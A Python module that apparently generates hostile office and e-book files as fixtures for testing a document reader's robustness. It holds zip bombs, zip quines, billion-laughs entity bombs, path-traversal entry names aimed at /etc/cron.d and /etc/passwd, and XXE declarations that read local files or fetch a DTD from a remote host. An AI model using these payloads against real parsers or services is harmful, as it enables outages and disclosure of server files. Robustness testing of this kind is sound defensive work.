"""Make hostile DOCX, ODT, XLSX and EPUB files: bombs, lies, tricks and broken XML inside.

The same bytes at every call. Every function yields a suffix and the bytes of one file; what the
files do to a reader is `hostile`'s to find out.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator, Mapping

Made = Iterator[tuple[str, bytes]]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

CONTAINER = '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'
BODY = {
    ".docx": (
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body>'
        "</w:document>"
    ),
    ".odt": (
        f'<o:document-content xmlns:o="{OFFICE}" xmlns:t="{TEXT}"><o:body><o:text><t:p>%s</t:p>'
        "</o:text></o:body></o:document-content>"
    ),
    ".xlsx": (
        f'<workbook xmlns="{SHEET}" xmlns:r="{LINKS}"><sheets><sheet name="%s" r:id="r1"/></sheets>'
        "</workbook>"
    ),
    ".epub": (
        "<package><metadata><title>%s</title></metadata><manifest>"
        '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="a"/></spine></package>'
    ),
}
"""The XML of the main part by suffix, with a place for words."""

MAIN = {
    ".docx": "word/document.xml",
    ".odt": "content.xml",
    ".xlsx": "xl/workbook.xml",
    ".epub": "book.opf",
}
REST = {
    ".docx": {},
    ".odt": {},
    ".xlsx": {
        "xl/_rels/workbook.xml.rels": (
            '<Relationships><Relationship Id="r1" Target="worksheets/s.xml"/></Relationships>'
        ),
        "xl/worksheets/s.xml": f'<worksheet xmlns="{SHEET}"/>',
    },
    ".epub": {"META-INF/container.xml": CONTAINER, "a.xhtml": "<p>chapitre</p>"},
}
SUFFIXES = tuple(BODY)


def pack(parts: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Zip parts, all of one date."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return file.getvalue()


def whole(suffix: str, words: str = "", **parts: str | bytes) -> bytes:
    """Make a file with nothing wrong; `parts` come on top of its own."""
    return pack({MAIN[suffix]: BODY[suffix] % words} | REST[suffix] | parts)


def with_main(suffix: str, xml: str | bytes) -> bytes:
    """Make a file whose main part is this XML."""
    return pack({MAIN[suffix]: xml} | REST[suffix])


def flat_bombs() -> Made:
    for suffix in SUFFIXES:
        yield suffix, whole(suffix, media=bytes(30_000_000))
        yield suffix, with_main(suffix, BODY[suffix] % (" " * 70_000_000))


def nested_bombs() -> Made:
    inner = pack({"bomb": bytes(5_000_000)})
    for _ in range(6):
        inner = pack({f"{n}.zip": inner for n in range(10)}, zipfile.ZIP_STORED)[:2_000_000]
    for suffix in SUFFIXES:
        yield suffix, pack({"inner.zip": inner, "word.zip": inner})
        yield suffix, with_main(suffix, inner)


def own_copies() -> Made:
    """Yield zips whose only part claims to be the zip itself, as the quines do."""
    for suffix in SUFFIXES:
        data = bytearray(pack({MAIN[suffix]: b"x" * 400}, zipfile.ZIP_STORED))
        entry = data.index(b"PK\x01\x02")
        data[entry + 42 : entry + 46] = bytes(4)
        data[entry + 20 : entry + 28] = struct.pack("<II", len(data) - 60, len(data) - 60)
        yield suffix, bytes(data)


def shared_bytes() -> Made:
    """Yield zips whose many entries unpack the same bytes."""
    for suffix in SUFFIXES:
        data = whole(suffix, kernel=bytes(1_000_000))
        start, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
        entries = data[start:end]
        count = entries.count(b"PK\x01\x02")
        tail = struct.pack(
            "<4s4H2LH", b"PK\x05\x06", 0, 0, 9 * count, 9 * count, 9 * len(entries), start, 0
        )
        yield suffix, data[:start] + 9 * entries + tail


def lies_about_size() -> Made:
    for suffix in SUFFIXES:
        data = bytearray(with_main(suffix, BODY[suffix] % ("a " * 5_000_000)))
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            place = data.index(signature) + offset
            data[place : place + 4] = (1000).to_bytes(4, "little")
        yield suffix, bytes(data)


def many_parts() -> Made:
    for suffix in SUFFIXES:
        yield suffix, pack({f"p{n}": "" for n in range(10_500)} | {MAIN[suffix]: "<a/>"})


def cut_short() -> Made:
    for suffix in SUFFIXES:
        data = whole(suffix, "mot " * 1000)
        for keep in (1, 10, len(data) // 2, -30, -1):
            yield suffix, data[:keep]


def wrong_sums() -> Made:
    for suffix in SUFFIXES:
        data = bytearray(
            pack({MAIN[suffix]: BODY[suffix] % "juste"} | REST[suffix], zipfile.ZIP_STORED)
        )
        data[data.index(b"juste")] ^= 1
        yield suffix, bytes(data)


def names_outside() -> Made:
    for suffix in SUFFIXES:
        for name in ("../../etc/cron.d/x", "/etc/passwd", "C:\\Windows\\x.dll", "a/../../b"):
            yield suffix, whole(suffix, "mot", **{name: "x"})


def same_names() -> Made:
    for suffix in SUFFIXES:
        data = whole(suffix, "vrai", **{"y" * len(MAIN[suffix]): BODY[suffix] % "faux"})
        yield suffix, data.replace(b"y" * len(MAIN[suffix]), MAIN[suffix].encode())


def passwords() -> Made:
    for suffix in SUFFIXES:
        data = bytearray(whole(suffix, "secret"))
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            data[data.index(signature) + offset] |= 1
        yield suffix, bytes(data)
    encrypted = "<m><file-entry><encryption-data/></file-entry></m>"
    yield ".odt", whole(".odt", "x", **{"META-INF/manifest.xml": encrypted})
    locked = '<e><d><CipherReference URI="a.xhtml"/></d></e>'
    yield ".epub", whole(".epub", "x", **{"META-INF/encryption.xml": locked})
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
    stream = "EncryptedPackage".encode("utf-16-le")
    yield from ((suffix, ole + stream + bytes(512)) for suffix in SUFFIXES)


def unknown_methods() -> Made:
    for suffix in SUFFIXES:
        data = bytearray(whole(suffix, "mot"))
        for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
            data[data.index(signature) + offset] = 97
        yield suffix, bytes(data)


def entity_bombs() -> Made:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<!DOCTYPE x [<!ENTITY l0 "ha">{levels}]>'
    quadratic = f'<!DOCTYPE x [<!ENTITY l9 "{"a" * 100_000}">]>'
    for suffix in SUFFIXES:
        yield suffix, with_main(suffix, laughs + BODY[suffix] % "&l9;")
        yield suffix, with_main(suffix, quadratic + BODY[suffix] % ("&l9;" * 10_000))
        wide = f'<?xml version="1.0" encoding="utf-16"?>{laughs}{BODY[suffix] % "&l9;"}'
        yield suffix, with_main(suffix, wide.encode("utf-16"))


def outside_entities() -> Made:
    declared = (
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///dev/zero">]>',
    )
    for suffix in SUFFIXES:
        for opening in declared:
            words = "&f;" if "ENTITY f" in opening else "x"
            yield suffix, with_main(suffix, opening + BODY[suffix] % words)


def deep_elements() -> Made:
    for suffix in SUFFIXES:
        yield (
            suffix,
            with_main(suffix, BODY[suffix].replace("%s", "<a>" * 100_000 + "</a>" * 100_000)),
        )
        yield suffix, with_main(suffix, "<a>" * 100_000)


def huge_attributes() -> Made:
    for suffix in SUFFIXES:
        yield suffix, with_main(suffix, f'<a b="{"é" * 9_500_000}"/>')


def broken_xml() -> Made:
    bad = (
        b"",
        b"\x00" * 100,
        b"<a>\xff\xfe</a>",
        b"<a/><b/>",
        b"<a b='1' b='2'/>",
        b'<?xml encoding="no-such"?><a/>',
    )
    for suffix in SUFFIXES:
        yield from ((suffix, with_main(suffix, xml)) for xml in bad)


def no_document() -> Made:
    """Yield whole zips that hold no document of their kind, and books without chapters."""
    for suffix in SUFFIXES:
        yield suffix, pack({"readme.txt": "rien"})
        yield suffix, pack({})
    for part in ("<package/>", BODY[".epub"] % "x" + " "):
        missing = part.replace("a.xhtml", "../../etc/passwd")
        yield ".epub", pack({"META-INF/container.xml": CONTAINER, "book.opf": missing})


def cell_bombs() -> Made:
    """Yield sheets that claim a million rows of 16,384 cells, or share one huge string."""
    relations = REST[".xlsx"]["xl/_rels/workbook.xml.rels"]
    book = {"xl/workbook.xml": BODY[".xlsx"] % "x", "xl/_rels/workbook.xml.rels": relations}
    far = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 200))
    shared = '<row><c t="s"><v>0</v></c></row>' * 5_000
    strings = f'<sst xmlns="{SHEET}"><si><t>{"mot " * 5_000}</t></si></sst>'
    for rows in (far, shared):
        sheet = (
            f'<worksheet xmlns="{SHEET}"><dimension ref="A1:XFD1048576"/>'
            f"<sheetData>{rows}</sheetData></worksheet>"
        )
        yield ".xlsx", pack(book | {"xl/worksheets/s.xml": sheet, "xl/sharedStrings.xml": strings})
    many = f'<sst xmlns="{SHEET}">' + f"<si><t>{'a' * 300}</t></si>" * 70_000 + "</sst>"
    yield ".xlsx", pack(book | {"xl/sharedStrings.xml": many})
    for claim in ("16384", "999999999"):
        cell = f'<t:table-cell t:number-columns-repeated="{claim}"><p>1</p></t:table-cell>'
        row = f'<t:table-row t:number-rows-repeated="1048576">{cell}</t:table-row>'
        sheets = f'<o:spreadsheet><t:table t:name="x">{row}</t:table></o:spreadsheet>'
        opening = f'<o:d xmlns:o="{OFFICE}" xmlns:t="{TABLE}">'
        yield ".ods", pack({"content.xml": f"{opening}<o:body>{sheets}</o:body></o:d>"})


def note_bombs() -> Made:
    """Yield a document that calls one huge note twenty thousand times."""
    call = '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    body = f'<w:document xmlns:w="{W}"><w:body>{call * 20_000}</w:body></w:document>'
    note = f"<w:p><w:r><w:t>{'mot ' * 5_000}</w:t></w:r></w:p>"
    notes = f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="1">{note}</w:footnote></w:footnotes>'
    yield ".docx", pack({"word/document.xml": body, "word/footnotes.xml": notes})
